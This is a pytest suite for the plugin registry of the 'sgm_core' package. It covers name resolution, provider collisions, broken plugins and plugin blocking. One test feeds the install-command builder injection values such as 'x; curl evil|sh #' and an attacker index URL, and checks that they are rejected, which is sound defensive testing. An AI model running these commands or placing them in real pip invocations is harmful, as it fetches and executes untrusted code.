import json
import re
import subprocess
import sys
import threading
from pathlib import Path

import pytest

import sgm_core as sgm
from sgm_core.cli.app import main
from sgm_core.kinds import KINDS
from sgm_core.registry import (
    API,
    BUILTIN,
    AmbiguousNameError,
    BrokenComponentError,
    Index,
    RegistryError,
    UnknownNameError,
    did_you_mean,
    index,
    install,
    nearest,
    normalize,
    scan,
)

MINILM = {"sgm.embedders": {"littlelm": "throwaway_littlelm:MiniLM"}}
SOURCE = {"throwaway_littlelm.py": "class MiniLM:\n    pass\n"}


@pytest.fixture(autouse=True)
def _no_switch(monkeypatch):
    monkeypatch.delenv("SGM_PLUGINS", raising=False)


# --- one provider --------------------------------------------------------------------------------------------------


def test_a_name_resolves_to_the_class_of_its_distribution(make_distribution):
    make_distribution("sgm-littlelm", MINILM, SOURCE, version="2.3")
    assert "littlelm" in sgm.names("embedders")
    assert sgm.resolve("embedders", "littlelm").__name__ == "MiniLM"
    entry = index.find("embedders", "littlelm")
    assert (entry.provider, entry.qualified) == ("sgm-littlelm 2.3", "sgm-littlelm:littlelm")


@pytest.mark.parametrize("written", ["sgm-littlelm", "sgm_littlelm", "sgm.littlelm", "SGM-LittleLM", "Sgm--.Littlelm"])
@pytest.mark.parametrize("installed", ["sgm-littlelm", "SGM.LittleLM", "sgm_littlelm"])
def test_qualified_names_ignore_case_and_separators(make_distribution, installed, written):
    make_distribution(installed, MINILM, SOURCE)
    assert sgm.resolve("embedders", f"{written}:littlelm").__name__ == "MiniLM"


@pytest.mark.parametrize(
    "metadata", ["{name}-{version}.dist-info", "{name}.egg-info", "{name}-{version}-py3.11.egg-info"]
)
def test_every_form_of_metadata_gives_name_and_version(make_distribution, metadata):
    make_distribution("sgm-littlelm", MINILM, SOURCE, version="2.3.post1", metadata=metadata)
    assert index.find("embedders", "littlelm").provider == "sgm-littlelm 2.3.post1"


def test_attributes_may_be_nested(make_distribution):
    points = {"sgm.embedders": {"littlelm": "throwaway_littlelm:Towers.MiniLM"}}
    make_distribution("sgm-littlelm", points, {"throwaway_littlelm.py": "class Towers:\n    class MiniLM: pass\n"})
    assert sgm.resolve("embedders", "littlelm").__qualname__ == "Towers.MiniLM"


def test_comments_extras_and_foreign_groups_of_an_entry_points_file_are_no_components(make_distribution):
    folder = make_distribution("sgm-littlelm", {}, SOURCE)
    text = """
    # [sgm.samplers]
    [console_scripts]
    littlelm = throwaway_littlelm:main
    [sgm.embedders]
    # old = throwaway_littlelm:Old
    littlelm = throwaway_littlelm:MiniLM [gpu, hf]
    littlelm=throwaway_littlelm:Second
    """
    (folder / "sgm_littlelm-1.0.dist-info" / "entry_points.txt").write_text(text)
    [entry] = scan([str(folder)])
    assert (entry.kind, entry.name, entry.value) == ("embedders", "littlelm", "throwaway_littlelm:MiniLM")


def test_paths_that_can_not_be_listed_are_passed_over(make_distribution, tmp_path):
    folder = make_distribution("sgm-littlelm", MINILM, SOURCE)
    (tmp_path / "file").write_text("")
    unlistable = [str(tmp_path / "absent"), str(tmp_path / "file"), None, Path(folder)]
    assert [entry.name for entry in scan([*unlistable, str(folder)])] == ["littlelm"]


def test_an_entry_points_file_that_is_not_text_offers_nothing(make_distribution):
    folder = make_distribution("sgm-littlelm", MINILM, SOURCE)
    (folder / "sgm_littlelm-1.0.dist-info" / "entry_points.txt").write_bytes(b"[sgm.embedders]\nlittlelm = caf\xe9:X\n")
    assert scan([str(folder)]) == []


# --- the same distribution twice -----------------------------------------------------------------------------------


def test_a_stale_egg_info_beside_the_dist_info_is_no_second_provider(make_distribution):
    folder = make_distribution("sgm-littlelm", MINILM, SOURCE, version="2.0")
    for metadata in ("{name}.egg-info", "{name}-{version}-py3.11.egg-info"):
        make_distribution("sgm-littlelm", MINILM, version="1.0", metadata=metadata, folder=folder)
    assert index.find("embedders", "littlelm").version == "2.0"
    assert sgm.names("embedders").count("littlelm") == 1


def test_an_editable_install_is_one_provider_with_its_checkout_and_the_first_on_the_path_wins(make_distribution):
    site = make_distribution("sgm-littlelm", MINILM, version="1.0")
    checkout = make_distribution("sgm-littlelm", MINILM, SOURCE, version="2.0", metadata="{name}.egg-info", first=True)
    assert index.find("embedders", "littlelm").version == "2.0"
    sys.path.remove(str(checkout))
    sys.path.append(str(checkout))
    index.refresh()
    assert sys.path.index(str(site)) < sys.path.index(str(checkout))
    assert index.find("embedders", "littlelm").version == "1.0"


def test_a_distribution_that_stands_first_hides_the_entry_points_of_its_older_self(make_distribution):
    make_distribution("sgm-littlelm", MINILM, SOURCE, version="1.0")
    make_distribution("sgm_littlelm", None, version="2.0", first=True)  # which no longer offers any
    with pytest.raises(UnknownNameError):
        index.find("embedders", "littlelm")


def test_a_path_entry_that_appears_twice_is_one_provider(make_distribution):
    folder = make_distribution("sgm-littlelm", MINILM, SOURCE)
    sys.path.append(str(folder))
    index.refresh()
    assert index.find("embedders", "littlelm").distribution == "sgm-littlelm"


def test_what_pip_leaves_of_an_interrupted_upgrade_is_not_looked_at(make_distribution):
    make_distribution("sgm-littlelm", MINILM, SOURCE, metadata="~gm_littlelm-{version}.dist-info")
    with pytest.raises(UnknownNameError):
        index.find("embedders", "littlelm")


# --- collisions ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("order", [("sgm-a", "sgm-b"), ("sgm-b", "sgm-a")])
def test_two_providers_are_an_error_only_where_the_bare_name_is_used(make_distribution, order):
    points = {"sgm.embedders": {"littlelm": "throwaway_{0}:MiniLM", "other_{0}": "throwaway_{0}:Other"}}
    for version, name in zip(("1.0", "2.0"), order, strict=True):
        letter = name[-1]
        named = {group: {k.format(letter): v.format(letter) for k, v in x.items()} for group, x in points.items()}
        source = f"class MiniLM: of = '{name}'\nclass Other: pass\n"
        make_distribution(name, named, {f"throwaway_{letter}.py": source}, version=version)

    assert [name for name in sgm.names("embedders") if "littlelm" in name] == ["sgm-a:littlelm", "sgm-b:littlelm"]
    assert sgm.resolve("embedders", "other_a").__name__ == "Other"
    assert sgm.resolve("embedders", "sgm-a:littlelm").of == "sgm-a"
    assert sgm.resolve("embedders", "sgm_b:littlelm").of == "sgm-b"
    with pytest.raises(AmbiguousNameError) as caught:
        sgm.resolve("embedders", "littlelm")
    versions = dict(zip(order, ("1.0", "2.0"), strict=True))
    assert str(caught.value) == (
        f"embedder 'littlelm' is offered by sgm-a {versions['sgm-a']} (throwaway_a:MiniLM) "
        f"and sgm-b {versions['sgm-b']} (throwaway_b:MiniLM). Write 'sgm-a:littlelm' or 'sgm-b:littlelm'."
    )


@pytest.mark.parametrize("first", [True, False])
def test_a_built_in_name_stays_the_built_ins(make_distribution, first):
    points = {"sgm.scalings": {"edm": "throwaway_edm:EDM"}}
    make_distribution("sgm-edm", points, {"throwaway_edm.py": "class EDM: pass\n"}, first=first)
    assert index.find("scalings", "edm").distribution == BUILTIN
    assert sgm.resolve("scalings", "edm").__module__ == "sgm_plugins.scalings"
    assert "throwaway_edm" not in sys.modules
    assert {"edm", "sgm-edm:edm"} <= set(sgm.names("scalings"))
    assert sgm.resolve("scalings", "sgm-edm:edm").__module__ == "throwaway_edm"


def test_every_listed_name_is_found(make_distribution, register):
    make_distribution("sgm-a", {"sgm.embedders": {"littlelm": "throwaway_a:A", "class": "throwaway_a:A"}})
    make_distribution("sgm-b", {"sgm.embedders": {"littlelm": "throwaway_b:B", "class": "throwaway_b:B"}})
    register("embedders", "littlelm")(type("C", (), {}))
    for kind in KINDS:
        found = [index.find(kind, name) for name in sgm.names(kind)]
        assert sorted(found) == index.entries(kind)


# --- unknown names -------------------------------------------------------------------------------------------------


def test_an_unknown_name_gets_the_nearest_and_the_whole_list():
    with pytest.raises(UnknownNameError) as caught:
        index.find("guiders", "cgf")
    known = ", ".join(sgm.names("guiders"))
    assert str(caught.value) == f"unknown guider 'cgf'. Did you mean 'cfg'?\nKnown guiders: {known}"


def test_a_name_of_another_kind_is_pointed_out():
    with pytest.raises(
        UnknownNameError, match=r"unknown network 'euler_edm'.*\n.*\n\('euler_edm' is one of the samplers\)"
    ):
        index.find("networks", "euler_edm")


def test_an_unknown_kind_gets_the_nearest():
    with pytest.raises(RegistryError, match=r"unknown kind 'sampler'. Did you mean 'samplers'\?\nKnown kinds: engines"):
        sgm.names("sampler")


def test_a_qualified_name_of_a_distribution_that_is_not_installed_says_so():
    with pytest.raises(
        UnknownNameError, match=r"no distribution 'sgm-littlelm' .* installed: pip install sgm-littlelm,"
    ):
        index.find("embedders", "sgm-littlelm:littlelm")


@pytest.mark.parametrize("name", ["", ":", ":class", "class:", "sgm-core:", "os.system", "sgm_plugins.x:Y", "Class"])
def test_what_is_no_name_is_unknown(name):
    with pytest.raises(UnknownNameError):
        index.find("embedders", name)


@pytest.mark.parametrize(
    ("word", "known", "near"),
    [
        ("cgf", ["cfg", "linear"], "cfg"),
        ("UNet", ["unet"], "unet"),
        ("DPMPP-2M", ["dpmpp_2m", "dpmpp_3m"], "dpmpp_2m"),
        ("xyz", ["cfg", "linear"], ""),
        ("x", [], ""),
    ],
)
def test_nearest(word, known, near):
    assert nearest(word, known) == near
    assert did_you_mean(word, known) == (f" Did you mean '{near}'?" if near else "")


def test_core_without_metadata_says_why_nothing_is_known(monkeypatch):
    monkeypatch.setattr(sys, "path", [])
    with pytest.raises(UnknownNameError, match="sgm-core is importable but not installed"):
        Index().find("networks", "unet")


# --- broken plugins ------------------------------------------------------------------------------------------------

BROKEN = {
    "import": "import a_module_that_is_nowhere\n",
    "syntax": "def broken(:\n",
    "exit": "import sys\nsys.exit(3)\n",
    "raises": "raise RuntimeError('no licence')\n",
    "attribute": "class Other: pass\n",
}


@pytest.fixture
def broken(make_distribution):
    points = {name: f"throwaway_{name}:Thing" for name in BROKEN}
    files = {f"throwaway_{name}.py": source for name, source in BROKEN.items()}
    make_distribution("sgm-broken", {"sgm.embedders": points}, files)


def test_broken_plugins_are_listed_and_not_touched(broken):
    assert set(BROKEN) <= set(sgm.names("embedders"))
    sgm.resolve("embedders", "class")
    assert not any(name.startswith("throwaway") for name in sys.modules)


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("import", "ModuleNotFoundError: No module named 'a_module_that_is_nowhere'"),
        ("syntax", "SyntaxError: invalid syntax"),
        ("exit", "SystemExit: 3"),
        ("raises", "RuntimeError: no licence"),
        ("attribute", "AttributeError: module 'throwaway_attribute' has no attribute 'Thing'"),
    ],
)
def test_a_broken_plugin_that_is_used_gives_one_message_with_the_reason(broken, name, reason):
    with pytest.raises(BrokenComponentError) as caught:
        sgm.resolve("embedders", name)
    where = f"embedder '{name}' of sgm-broken 1.0 cannot be loaded from throwaway_{name}:Thing: {reason}"
    assert str(caught.value).startswith(where)


def test_ctrl_c_during_an_import_is_no_broken_plugin(make_distribution):
    make_distribution("sgm-littlelm", MINILM, {"throwaway_littlelm.py": "raise KeyboardInterrupt\n"})
    with pytest.raises(KeyboardInterrupt):
        sgm.resolve("embedders", "littlelm")


@pytest.mark.parametrize("metadata", ["{name}-{version}.dist-info", "{name}.egg-info"])
def test_a_missing_module_names_the_extra_that_brings_it(make_distribution, metadata):
    extras = {"fast": ["numba>=1"], "hf": ["Absent_Transformers>=4.4"]}
    source = {"throwaway_littlelm.py": "import absent_transformers.models\n"}
    make_distribution("sgm-littlelm", MINILM, source, extras=extras, metadata=metadata)
    with pytest.raises(BrokenComponentError) as caught:
        sgm.resolve("embedders", "littlelm")
    assert str(caught.value).endswith('\nInstall it with: pip install "sgm-littlelm[hf]"')


def test_a_missing_module_of_another_name_than_its_distribution_names_the_extras(make_distribution):
    source = {"throwaway_littlelm.py": "import absent_clip\n"}
    make_distribution("sgm-littlelm", MINILM, source, extras={"clip": ["absent-clip-torch"], "hf": ["x"]})
    with pytest.raises(BrokenComponentError, match=r"'absent_clip' is not installed.*sgm-littlelm brings it: clip, hf"):
        sgm.resolve("embedders", "littlelm")


def test_a_missing_part_of_an_installed_module_is_nothing_to_install(make_distribution):
    source = {"throwaway_littlelm.py": "import json.absent\n"}
    make_distribution("sgm-littlelm", MINILM, source, extras={"json": ["json"]})
    with pytest.raises(BrokenComponentError) as caught:
        sgm.resolve("embedders", "littlelm")
    assert "nstall" not in str(caught.value)


# --- which plugins -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("switch", "seen"),
    [
        ("", {"a", "b"}),
        ("off", set()),
        ("only:sgm-a", {"a"}),
        ("only:SGM_A, sgm.b", {"a", "b"}),
        ("only:", set()),
        ("-sgm-a", {"b"}),
        ("-SGM_A, -sgm-b", set()),
        ("-sgm-core", {"a", "b"}),  # the built-ins stay
    ],
)
def test_the_switch_decides_whose_components_are_seen(make_distribution, monkeypatch, switch, seen):
    for letter in "ab":
        points = {"sgm.embedders": {letter: f"throwaway_{letter}:X"}, "sgm.plugins": {letter: "x"}}
        make_distribution(f"sgm-{letter}", points)
    monkeypatch.setenv("SGM_PLUGINS", switch)
    assert set(sgm.names("embedders")) & {"a", "b"} == seen
    assert {entry.name for entry in index.entries("plugins") if entry.distribution != BUILTIN} == seen
    assert "class" in sgm.names("embedders")


def test_a_blocked_plugin_is_named_and_not_imported(make_distribution, monkeypatch):
    make_distribution("sgm-littlelm", MINILM, SOURCE)
    monkeypatch.setenv("SGM_PLUGINS", "off")
    for name in ("littlelm", "sgm-littlelm:littlelm"):
        with pytest.raises(UnknownNameError, match=r"\(sgm-littlelm offers it, but SGM_PLUGINS is 'off'\)"):
            sgm.resolve("embedders", name)
    assert "throwaway_littlelm" not in sys.modules


def test_blocking_one_of_two_providers_settles_the_name(make_distribution, monkeypatch):
    make_distribution("sgm-a", MINILM, SOURCE)
    make_distribution("sgm-b", MINILM)
    monkeypatch.setenv("SGM_PLUGINS", "-sgm-b")
    assert index.find("embedders", "littlelm").distribution == "sgm-a"


@pytest.mark.parametrize("switch", ["on", "sgm-a", "-", "-a,b", "none:a"])
def test_a_switch_of_no_known_form_is_refused(monkeypatch, switch):
    monkeypatch.setenv("SGM_PLUGINS", switch)
    with pytest.raises(RegistryError, match=f"is '{switch}'; write 'off', 'only:dist-a,dist-b'"):
        sgm.names("embedders")


def test_registered_components_are_the_users_own_and_never_blocked(register, monkeypatch):
    register("embedders", "mine")(type("Mine", (), {}))
    monkeypatch.setenv("SGM_PLUGINS", "off")
    assert sgm.resolve("embedders", "mine").__name__ == "Mine"


# --- the API window ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("apis", [{}, {str(API): "sgm_core"}, {"99": "sgm_core", str(API): "sgm_core"}])
def test_a_plugin_of_this_api_or_of_none_is_used(make_distribution, apis):
    make_distribution("sgm-littlelm", MINILM | ({"sgm.api": apis} if apis else {}), SOURCE)
    assert sgm.resolve("embedders", "littlelm").__name__ == "MiniLM"
    assert index.unavailable() == []


@pytest.mark.parametrize(
    ("api", "way_out"),
    [
        ("99", "API 99 of sgm-core, which is at 1: pip install -U sgm-core"),
        ("0", "API 0 of sgm-core, which is at 1: pip install -U sgm-littlelm"),
        ("v1", "API v1 of sgm-core, which is at 1: pip install -U sgm-littlelm"),
    ],
)
def test_a_plugin_of_another_api_is_named_with_the_way_out_and_not_imported(make_distribution, capsys, api, way_out):
    points = {**MINILM, "sgm.plugins": {"hooks": "throwaway_littlelm"}, "sgm.api": {api: "sgm_core"}}
    make_distribution("sgm-littlelm", points, SOURCE)
    assert "littlelm" not in sgm.names("embedders")
    assert [entry for entry in index.entries("plugins") if entry.distribution != BUILTIN] == []
    with pytest.raises(UnknownNameError, match=re.escape(f"sgm-littlelm 1.0 was built for {way_out}")):
        sgm.resolve("embedders", "sgm-littlelm:littlelm")
    assert main(["list", "embedders"]) == 0
    assert f"embedders/littlelm  sgm-littlelm 1.0: sgm-littlelm 1.0 was built for {way_out}" in capsys.readouterr().out
    assert main(["list", "embedders", "--json"]) == 0
    rows = {row["name"]: row for row in json.loads(capsys.readouterr().out)}
    assert rows["littlelm"]["unavailable"].endswith(way_out)
    assert "unavailable" not in rows["class"]
    assert main(["doctor", "sgm-littlelm"]) == 1
    assert way_out in capsys.readouterr().out
    assert "throwaway_littlelm" not in sys.modules


def test_a_plugin_of_another_api_leaves_its_name_to_others(make_distribution):
    make_distribution("sgm-a", MINILM | {"sgm.api": {"99": "sgm_core"}})
    make_distribution("sgm-b", MINILM, SOURCE)
    assert index.find("embedders", "littlelm").distribution == "sgm-b"


AUDIT = """
import os, sys
seen = []
def watch(event, arguments):
    if event in ("import", "exec", "compile", "open"):
        name = arguments[0].co_filename if event == "exec" else arguments[1 if event == "compile" else 0]
        if "throwaway_denied" in str(name):
            seen.append((event, name))
sys.addaudithook(watch)
from sgm_core.cli.app import main
for arguments in [
    ["list"], ["list", "--long"], ["schema"], ["doctor"], ["check", "digits"], ["show", "embedders/denied"],
    ["explain", "digits"], ["check", "digits", "model.first_stage=denied"], ["no_such_command"],
    ["train", "digits", "trainer.max_steps=1", "trainer.enable_progress_bar=false", "trainer.callbacks=[]"],
]:
    try:
        code = main(arguments)
    except SystemExit as error:
        code = error.code
    print("CODE", arguments[0], code)
import sgm_core
try:
    sgm_core.resolve("embedders", "sgm-denied:denied")
except sgm_core.registry.RegistryError as error:
    print(error)
print("SEEN", seen)
print("LOADED", "throwaway_denied" in sys.modules)
"""


@pytest.mark.parametrize(
    "reason",
    [
        pytest.param("SGM_PLUGINS is 'off'", marks=pytest.mark.slow),
        pytest.param("SGM_PLUGINS is '-sgm-denied'", marks=pytest.mark.slow),
        "built for API 99",
    ],
)
def test_no_command_reads_the_code_of_a_plugin_that_is_not_to_be_used(
    make_distribution, sgm_forked, tmp_path, monkeypatch, reason
):
    points = {
        "sgm.embedders": {"denied": "throwaway_denied:X"},
        "sgm.first_stages": {"denied": "throwaway_denied:X"},
        "sgm.plugins": {"hooks": "throwaway_denied"},
        "sgm.configs": {"denied": "throwaway_denied"},
        "sgm.api": {"99" if "API" in reason else "1": "sgm_core"},
    }
    make_distribution("sgm-denied", points, {"throwaway_denied.py": "X = open('imported', 'w')"})
    monkeypatch.chdir(tmp_path)
    if "SGM_PLUGINS" in reason:
        monkeypatch.setenv("SGM_PLUGINS", reason.split("'")[1])
    done = sgm_forked(code=AUDIT)
    assert done.wait() == 0, done.err
    assert "SEEN []\nLOADED False" in done.out, done.out + done.err
    assert not (tmp_path / "imported").exists()
    assert reason in done.out + done.err
    assert "CODE train 0" in done.out


# --- register ------------------------------------------------------------------------------------------------------


def test_a_registered_class_is_found_by_name_and_returned_as_it_is(register):
    @register("embedders", "mine")
    class Mine:
        pass

    assert sgm.resolve("embedders", "mine") is Mine
    assert sgm.resolve("embedders", "local:mine") is Mine
    assert "mine" in sgm.names("embedders")


def test_a_notebook_cell_may_run_again(register):
    def cell(value):
        @register("embedders", "mine")
        class Mine:
            x = value

    cell(1)
    cell(2)
    assert sgm.resolve("embedders", "mine").x == 2


def test_another_definition_under_the_name_is_refused(register):
    register("embedders", "mine")(type("Mine", (), {}))
    with pytest.raises(RegistryError, match=r"embedder 'mine' is already registered, as .*test_registry.Mine"):
        register("embedders", "mine")(type("Other", (), {}))


def test_built_in_names_are_reserved_against_register(register):
    with pytest.raises(RegistryError, match="embedder 'class' is built in and cannot be replaced"):
        register("embedders", "class")


def test_a_registered_name_that_a_plugin_has_too_is_ambiguous_not_last_wins(register, make_distribution):
    make_distribution("sgm-littlelm", MINILM, SOURCE)
    register("embedders", "littlelm")(type("Mine", (), {}))
    with pytest.raises(AmbiguousNameError, match="Write 'local:littlelm' or 'sgm-littlelm:littlelm'"):
        sgm.resolve("embedders", "littlelm")
    assert sgm.resolve("embedders", "local:littlelm").__name__ == "Mine"


@pytest.mark.parametrize("name", ["Mine", "my-embedder", "a:b", "", "1st", "my embedder"])
def test_names_are_snake_case(register, name):
    with pytest.raises(RegistryError, match="use snake_case"):
        register("embedders", name)


def test_only_what_can_be_called_is_a_component(register):
    with pytest.raises(RegistryError, match="register a class or a function, not 3"):
        register("embedders", "three")(3)


def test_a_distribution_that_is_called_local_works_like_any_other(make_distribution):
    make_distribution("local", MINILM, SOURCE)
    assert sgm.resolve("embedders", "local:littlelm").__name__ == "MiniLM"


# --- laziness ------------------------------------------------------------------------------------------------------


def test_resolving_three_names_of_a_hundred_plugins_imports_three_modules(make_distribution):
    folder = None
    for i in range(100):
        points = {"sgm.embedders": {f"e{i}": f"throwaway_{i}:E"}}
        folder = make_distribution(f"sgm-{i}", points, {f"throwaway_{i}.py": "class E: pass\n"}, folder=folder)
    assert len([name for name in sgm.names("embedders") if name.startswith("e")]) == 100
    for i in (3, 41, 97):
        sgm.resolve("embedders", f"e{i}")
    assert {name for name in sys.modules if name.startswith("throwaway")} == {
        "throwaway_3",
        "throwaway_41",
        "throwaway_97",
    }


def test_the_metadata_is_read_once_until_refresh(make_distribution):
    own = Index()
    own.names("embedders")
    make_distribution("sgm-littlelm", MINILM, SOURCE)
    assert "littlelm" not in own.names("embedders")
    own.refresh()
    assert "littlelm" in own.names("embedders")


def test_threads_share_one_index_and_each_import(make_distribution):
    source = "import time\ntime.sleep(0.05)\nclass MiniLM: pass\n"
    make_distribution("sgm-littlelm", MINILM, {"throwaway_littlelm.py": source})
    own, found, start = Index(), [], threading.Barrier(8)

    def work(i: int) -> None:
        start.wait()
        if i % 2:
            own.refresh()
        own.register("embedders", f"mine_{i}")(type(f"Mine{i}", (), {}))
        own.entries()
        found.append(own.resolve("embedders", "littlelm"))

    threads = [threading.Thread(target=work, args=(i,)) for i in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(found) == 8
    assert len(set(found)) == 1
    assert {f"mine_{i}" for i in range(8)} <= set(own.names("embedders"))


def test_it_works_from_a_folder_that_is_gone(tmp_path):
    gone = tmp_path / "gone"
    gone.mkdir()
    code = "import os; os.rmdir(os.getcwd()); import sgm_core; print(sgm_core.names('guiders'))"
    done = subprocess.run([sys.executable, "-c", code], cwd=gone, capture_output=True, text=True, check=False)
    assert "'cfg'" in done.stdout, done.stderr


def test_normalize_is_pep_503():
    assert normalize("SGM.Mini__LM-.x") == "sgm-mini-lm-x"


@pytest.mark.parametrize(
    ("name", "version", "expected"),
    [
        ("sgm-minilm", "1.0", "pip install sgm-minilm==1.0"),
        ("sgm_minilm", "", "pip install sgm_minilm"),
        ("a", "1!2.0rc1+cu126", "pip install a==1!2.0rc1+cu126"),
        (
            "--index-url=http://evil.example x",
            "1",
            "'--index-url=http://evil.example x' is not the name of a distribution",
        ),
        ("x; curl evil|sh #", "1", "'x; curl evil|sh #' is not the name of a distribution"),
        ("x", "1; curl evil", "'x' is not the name of a distribution"),
        ("x\x1b[2J", "1", r"'x\x1b[2J' is not the name of a distribution"),
        ("x\n", "1", r"'x\n' is not the name of a distribution"),
        ("-r", "1", "'-r' is not the name of a distribution"),
        ("", "", "'' is not the name of a distribution"),
    ],
)
def test_only_the_name_of_a_distribution_becomes_a_command(name, version, expected):
    assert install(name, version) == expected


def test_the_working_folder_brings_no_plugins(make_distribution, monkeypatch):
    folder = make_distribution("sgm-here", {"sgm.samplers": {"x": "nowhere:X"}})
    monkeypatch.chdir(folder)
    assert [entry.distribution for entry in scan([str(folder)])] == ["sgm-here"]
    assert scan([""]) == []
